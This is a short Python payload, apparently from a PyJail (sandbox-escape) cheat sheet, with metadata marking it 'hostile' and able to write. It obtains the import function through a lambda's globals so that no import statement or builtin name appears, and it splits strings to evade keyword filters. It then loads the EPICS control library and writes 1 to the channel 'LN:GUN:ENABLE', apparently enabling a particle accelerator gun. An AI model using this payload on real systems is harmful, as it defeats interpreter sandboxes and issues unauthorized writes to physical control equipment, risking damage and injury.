# source: PyJail cheat sheets, import through __builtins__ of a loaded class (ctftime.org)
# kind: hostile
# writes: yes
# channels: LN:GUN:ENABLE
# reads: no
"""No import statement and no builtin called by name."""
space = (lambda: 0).__globals__
tools = space["__builtins__"]
tools = tools if type(tools) is dict else tools.__dict__
load = tools[[k for k in tools if k.startswith("__imp")][0]]
module = load("epics")
print(module.__dict__["ca" "put"]("LN:GUN:ENABLE", 1))
